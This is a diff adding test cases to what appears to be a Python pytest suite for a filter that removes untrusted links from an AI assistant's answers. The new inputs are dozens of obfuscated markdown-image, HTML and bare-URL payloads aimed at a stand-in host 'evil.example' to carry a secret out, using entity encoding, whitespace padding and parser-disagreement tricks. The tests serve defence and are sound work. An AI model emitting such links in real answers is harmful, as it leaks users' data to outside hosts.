@@ -43,6 +43,8 @@ async def shown(answer: str, context: GuardContext = CONTEXT) -> str:
         f'[it]({STRANGER} "title")', f"[it]({STRANGER}), and more", f'<a href="{STRANGER}">it</a>',
         f"<a href={STRANGER}>it</a>", f"{STRANGER}\nnext", f"{SHOP}/any?page=1#part",
         f"[a]({SHOP}/a)[b]({SHOP}/b)", f"{SHOP}/it's", f"<{SHOP}/a b>",
+        f"[it]({STRANGER})s", f"[訂單]({STRANGER})查看", f"[it]({STRANGER} 't')", f"[it](<{STRANGER}>)",
+        f"{STRANGER}<br>next", f"| {STRANGER} |", f"git+{SHOP}/a", f'<a class="b" href="{SHOP}">it</a>',
     ],
 )  # fmt: skip
 async def test_a_link_that_somebody_vouches_for_stays(answer: str) -> None:
@@ -125,6 +127,67 @@ async def test_other_ways_to_write_a_link_are_links(answer: str) -> None:
     assert "evil.example" not in await shown(answer.replace("EVIL", "evil.example/p?d=SECRET"))
 
 
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![a](&#9;https&colon;//EVIL)", "![a](&Tab;https&colon;//EVIL)", "![a](ht&Tab;tps://EVIL)",
+        "![a](/&NewLine;/EVIL)", "![a](&nbsp;//EVIL)", "![a](&#1;//EVIL)", "![a](/&#13;/EVIL)",
+        "![a](" + "&#9;" * 200 + "https&colon;//EVIL)", "[r]: &#32;https&colon;//EVIL", "[r]: &#32;&#32;//EVIL",
+        "![a](https&#58//EVIL)", "![a](\\&#9;https\\&colon;//EVIL)", "![a](&\\#104;ttps://EVIL)",
+        "![a](&#x0000000000000000068;ttps://EVIL)", "![a](&bsol;/EVIL)", "![a](//\tEVIL)", "[a](w&#119;&#x57;.EVIL)",
+        '<img src="&#104;ttps://EVIL">', '<img src="&#47;/EVIL">', "<a style='background:url(&quot;//EVIL&quot;)'>",
+        "see https&colon;//EVIL", "see https\\://EVIL", "see www&period;EVIL", "see &#104;ttps://EVIL",
+    ],
+)  # fmt: skip
+async def test_signs_by_number_or_name_make_a_link(answer: str) -> None:
+    assert "evil.example" not in await shown(answer.replace("EVIL", "evil.example/p?d=SECRET"))
+
+
+@pytest.mark.parametrize("before", ["-", "No.1", "見", "Details.", "x", "+", "_", "a_", "(", "/", "@", "~"])
+@pytest.mark.parametrize("link", ["https://EVIL", "ftp://EVIL", "www.EVIL", "www.EVIL@a.b"])
+async def test_a_link_may_begin_behind_any_sign(before: str, link: str) -> None:
+    answer = before + link.replace("EVIL", "evil.example/SECRET")
+    assert "SECRET" not in await shown(answer)
+
+
+@pytest.mark.parametrize("sign", ["&sol;", "&#47;", "&quest;", "&num;", "&bsol;", "\\/", "\\\\", "&#x2f"])
+@pytest.mark.parametrize("form", ["![a](LINK)", "[a](<LINK>)", '<img src="LINK">', "LINK"])
+async def test_a_host_ends_at_a_sign_by_number_or_name(form: str, sign: str) -> None:
+    link = f"https://evil.example{sign}@shop.example/SECRET"
+    assert "SECRET" not in await shown(form.replace("LINK", link))
+
+
+@pytest.mark.parametrize("between", ["\n", "\t", "\r", "\n> "])
+async def test_a_line_break_does_not_end_a_host(between: str) -> None:
+    assert "shop" not in await shown(f"![a]({SHOP}{between}.evil.example/SECRET)")
+
+
+FAR = [" " * 110, "\t" * 3000, "\n" + " " * 200, " " * 50 + "\n> " + " " * 60, " &#32;" * 40, " <"]
+
+
+@pytest.mark.parametrize("blanks", FAR)
+async def test_a_definition_far_before_its_image_is_one(blanks: str) -> None:
+    answer = f"> [r]:{blanks}{STRANGER}\n\n![it][r]"
+    assert "stranger.example" not in await shown(answer)
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        "[it](LINK SECRET)", '[it](LINK "t" SECRET)', '[it](LINK "SECRET)")', "[it](LINK\nSECRET)",
+        "[it](LINK =SECRET)",
+        "[it](<LINK>SECRET)", "[it](<LINK> SECRET)", "[it](&#32;LINK SECRET)", "[it](LINK)(SECRET)",
+        "[r]: LINK SECRET\n\n[it][r]", "[r]: <LINK> SECRET\n\n[it][r]", "\\<LINK>SECRET", "<LINK SECRET>",
+        "it](LINK)SECRET", "[it\\](LINK)SECRET", "[a `]` b](LINK)SECRET", 'x="LINK">SECRET', '\\<a href="LINK">SECRET',
+        '<a =href="LINK">SECRET', "x=LINK<SECRET", "LINK<SECRET", "LINK<@evil.example/SECRET",
+        "\\<LINK</a>SECRET", "<LINK\n。SECRET>", '<a href="LINK SECRET">it</a>',
+    ],
+)  # fmt: skip
+async def test_what_one_reader_takes_for_a_part_of_a_results_link_does_not_leave(form: str) -> None:
+    """Python-Markdown takes a target to its bracket, GFM a bare link to the next blank, showdown beyond a tag."""
+    assert "stranger.example" not in await shown(form.replace("LINK", STRANGER))
+
+
 async def test_text_that_looks_like_it_stays() -> None:
     for answer in (
         "either, // or",
@@ -138,6 +201,10 @@ async def test_text_that_looks_like_it_stays() -> None:
         "www",
         "a=b/c",
         "1 // 2, //",
+        "awww... so cute",
+        "by-laws://x",
+        "f(a &amp; b) &#104;",
+        "x = [1, //\n 2]",
     ):
         assert await shown(answer) == answer
 
